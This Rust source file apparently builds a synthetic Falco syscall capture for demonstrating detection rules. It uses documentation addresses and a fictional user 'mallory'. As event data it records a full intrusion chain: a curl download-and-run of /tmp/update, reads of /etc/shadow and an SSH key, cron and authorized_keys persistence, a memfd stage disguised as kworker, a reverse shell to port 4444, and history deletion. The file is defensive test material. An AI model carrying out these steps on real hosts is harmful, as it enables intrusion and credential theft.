//! The demonstration capture: a login that downloads a program, runs it, and what the program does then.
//!
//! Everything in it is made up: host, user, addresses from the ranges for documentation.

use anyhow::Result;
use falco_catalog::event;
use falco_scap::builder::{CaptureBuilder, Params};
use falco_scap::params::{Sockaddr, Socktuple};
use falco_scap::{FdEntry, FdInfo, GroupEntry, Interface, InterfaceAddr, MachineInfo, ProcessEntry, UserEntry, params};

/// 2026-01-15 09:30:00 UTC.
const START: u64 = 1_768_469_400_000_000_000;
const MILLI: u64 = 1_000_000;

const RDONLY: u32 = 1;
const WRONLY: u32 = 2;
const CREAT: u32 = 4;
const APPEND: u32 = 8;
const AT_FDCWD: i64 = -100;

const LOCAL: [u8; 4] = [192, 0, 2, 10];
const REMOTE: [u8; 4] = [203, 0, 113, 7];

/// A process of the story.
#[derive(Clone, Copy)]
struct Process {
    tid: i64,
    parent: i64,
    comm: &'static str,
    exe: &'static str,
    path: &'static str,
    args: &'static [&'static str],
    /// `execve` flags: 1 writable, 4 from memory.
    flags: u32,
}

/// Adds events at a steady pace.
struct Story {
    capture: CaptureBuilder,
    now: u64,
}

impl Story {
    fn event(mut self, tid: i64, ty: falco_catalog::EventType, params: Params) -> Self {
        self.now += 3 * MILLI;
        self.capture = self.capture.event(self.now, tid, ty, params);
        self
    }

    /// The shell forks and the child becomes `to`.
    fn spawn(self, from: Process, to: Process) -> Self {
        let fork = params! {
            res = to.tid, exe = from.exe, args = from.args, tid = from.tid, pid = from.tid, ptid = from.parent,
            cwd = "", fdlimit = 1024i64, comm = from.comm, flags = 0u32, uid = 1000u32, gid = 1000u32,
            vtid = from.tid, vpid = from.tid,
        };
        self.event(from.tid, event::SYSCALL_CLONE_20_X, fork).exec(to)
    }

    fn exec(self, to: Process) -> Self {
        let exec = params! {
            res = 0i64, exe = to.exe, args = to.args, tid = to.tid, pid = to.tid, ptid = to.parent, cwd = "",
            fdlimit = 1024u64, comm = to.comm, env = ["PATH=/usr/bin:/bin", "HOME=/home/mallory", "LANG=C"],
            tty = 34816u32, vpgid = to.tid, loginuid = 1000u32, flags = to.flags, cap_inheritable = 0u64,
            cap_permitted = 0u64, cap_effective = 0u64, exe_ino = 4711u64, exe_ino_ctime = START - 86_400_000 * MILLI,
            exe_ino_mtime = START - 86_400_000 * MILLI, uid = 1000u32, trusted_exepath = to.path, pgid = to.tid,
            gid = 1000u32, filename = to.path,
        };
        self.event(to.tid, event::SYSCALL_EXECVE_19_X, exec)
    }

    fn open(self, tid: i64, fd: i64, name: &str, flags: u32) -> Self {
        let open = params! {
            fd = fd, dirfd = AT_FDCWD, name = name, flags = flags, mode = 0o644u32, dev = 2049u32, ino = 131_072u64,
        };
        self.event(tid, event::SYSCALL_OPENAT_2_X, open)
    }

    fn read(self, tid: i64, fd: i64, data: &str) -> Self {
        let read = params! { res = data.len() as i64, data = data, fd = fd, size = 4096u32 };
        self.event(tid, event::SYSCALL_READ_X, read)
    }

    fn write(self, tid: i64, fd: i64, data: &str) -> Self {
        let write = params! { res = data.len() as i64, data = data, fd = fd, size = data.len() as u32 };
        self.event(tid, event::SYSCALL_WRITE_X, write)
    }

    fn close(self, tid: i64, fd: i64) -> Self {
        self.event(tid, event::SYSCALL_CLOSE_X, params! { res = 0i64, fd = fd })
    }

    fn connect(self, tid: i64, fd: i64, local: u16, remote: u16) -> Self {
        let socket = params! { fd = fd, domain = 2u32, type = 1u32, proto = 6u32, flags = 0u32 };
        let tuple = Socktuple::V4 { sip: LOCAL.into(), sport: local, dip: REMOTE.into(), dport: remote };
        let connect = params! {
            res = 0i64, tuple = tuple, fd = fd, addr = Sockaddr::V4 { ip: REMOTE.into(), port: remote },
        };
        self.event(tid, event::SOCKET_SOCKET_X, socket).event(tid, event::SOCKET_CONNECT_X, connect)
    }

    fn exit(self, tid: i64) -> Self {
        let exit = params! { status = 0i64, ret = 0i64, sig = 0u8, core = 0u8, reaper_tid = 1i64 };
        self.event(tid, event::PROCEXIT_1_E, exit)
    }
}

/// The capture's bytes, gzip compressed.
pub fn capture() -> Result<Vec<u8>> {
    let shell =
        Process { tid: 200, parent: 100, comm: "bash", exe: "-bash", path: "/usr/bin/bash", args: &[], flags: 0 };
    let curl = Process {
        tid: 301,
        parent: 200,
        comm: "curl",
        exe: "curl",
        path: "/usr/bin/curl",
        args: &["-so", "/tmp/update", "http://203.0.113.7/update"],
        flags: 0,
    };
    let dropper = Process {
        tid: 302,
        parent: 200,
        comm: "update",
        exe: "/tmp/update",
        path: "/tmp/update",
        args: &["--quiet"],
        flags: 1,
    };
    let stage =
        Process { comm: "kworker", exe: "[kworker/0:1]", path: "memfd:x", args: &[], flags: 4, tid: 303, parent: 302 };
    let back =
        Process { comm: "sh", exe: "/bin/sh", path: "/usr/bin/dash", args: &["-i"], flags: 0, tid: 304, parent: 303 };

    let story = Story { capture: world(), now: START };
    let story = story
        // Everyday work first: nothing in it is worth an alert.
        .open(200, 3, "/etc/profile", RDONLY)
        .read(200, 3, "# /etc/profile: system-wide settings\n")
        .close(200, 3)
        // The download.
        .spawn(shell, curl)
        .open(301, 3, "/etc/ssl/certs/ca-certificates.crt", RDONLY)
        .close(301, 3)
        .connect(301, 3, 50112, 80)
        .write(301, 3, "GET /update HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n")
        .read(301, 3, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7fELF")
        .open(301, 4, "/tmp/update", WRONLY | CREAT)
        .write(301, 4, "\x7fELF")
        .close(301, 4)
        .close(301, 3)
        .exit(301)
        // It runs, looks for passwords and settles in.
        .spawn(shell, dropper)
        .open(302, -2, "/tmp/update.conf", RDONLY)
        .open(302, 3, "/etc/shadow", RDONLY)
        .read(302, 3, "root:*:20000:0:99999:7:::\n")
        .close(302, 3)
        .open(302, 3, "/home/mallory/.ssh/id_ed25519", RDONLY)
        .close(302, 3)
        .open(302, 3, "/etc/cron.d/update", WRONLY | CREAT)
        .write(302, 3, "* * * * * root /tmp/update\n")
        .close(302, 3)
        .open(302, 3, "/home/mallory/.ssh/authorized_keys", WRONLY | APPEND)
        .write(302, 3, "ssh-ed25519 AAAA mallory@203.0.113.7\n")
        .close(302, 3)
        // A second stage that is never on disk, and a shell for whoever listens.
        .event(302, event::SYSCALL_MEMFD_CREATE_X, params! { fd = 5i64, name = "x", flags = 1u32 })
        .spawn(dropper, stage)
        .connect(303, 3, 50114, 4444)
        .event(303, event::SYSCALL_DUP2_X, params! { res = 0i64, oldfd = 3i64, newfd = 0i64 })
        .event(303, event::SYSCALL_DUP2_X, params! { res = 1i64, oldfd = 3i64, newfd = 1i64 })
        .spawn(stage, back)
        .event(304, event::SYSCALL_UNLINK_2_X, params! { res = 0i64, path = "/home/mallory/.bash_history" })
        .exit(304)
        .exit(303)
        .exit(302);
    Ok(story.capture.build_with(falco_scap::Compression::Gzip)?)
}

/// The machine before the story.
fn world() -> CaptureBuilder {
    let thread = |tid: i64, ptid: i64, comm: &str, path: &str, uid: u32, cwd: &str| ProcessEntry {
        tid,
        pid: tid,
        ptid,
        sid: tid,
        vpgid: tid,
        pgid: tid,
        vtid: tid,
        vpid: tid,
        comm: comm.into(),
        exe: path.into(),
        exepath: path.into(),
        cwd: cwd.into(),
        root: b"/".to_vec(),
        fdlimit: 1024,
        uid,
        gid: uid,
        loginuid: uid,
        env: b"PATH=/usr/bin:/bin\0".to_vec(),
        ..ProcessEntry::default()
    };
    let user = |uid: u32, name: &str, home: &str| UserEntry {
        uid,
        gid: uid,
        name: name.into(),
        homedir: home.into(),
        shell: b"/bin/bash".to_vec(),
    };
    let terminal =
        |fd: i64| FdEntry { fd, ino: 3, info: FdInfo::FileV2 { open_flags: 3, name: b"/dev/pts/0".to_vec(), dev: 24 } };
    CaptureBuilder::new()
        .machine(MachineInfo {
            num_cpus: 2,
            memory_size_bytes: 4 << 30,
            max_pid: 4_194_304,
            hostname: b"workshop".to_vec(),
            boot_ts_epoch: START - 3_600_000 * MILLI,
            ..MachineInfo::default()
        })
        .interface(Interface {
            name: b"eth0".to_vec(),
            addr: InterfaceAddr::V4 {
                addr: LOCAL.into(),
                netmask: [255, 255, 255, 0].into(),
                broadcast: [192, 0, 2, 255].into(),
            },
            linkspeed: Some(0),
        })
        .user(user(0, "root", "/root"))
        .user(user(1000, "mallory", "/home/mallory"))
        .group(GroupEntry { gid: 0, name: b"root".to_vec() })
        .group(GroupEntry { gid: 1000, name: b"mallory".to_vec() })
        .thread(thread(1, 0, "systemd", "/usr/lib/systemd/systemd", 0, "/"))
        .thread(thread(100, 1, "sshd", "/usr/sbin/sshd", 0, "/"))
        .thread(thread(200, 100, "bash", "/usr/bin/bash", 1000, "/home/mallory"))
        .fd(200, terminal(0))
        .fd(200, terminal(1))
        .fd(200, terminal(2))
}
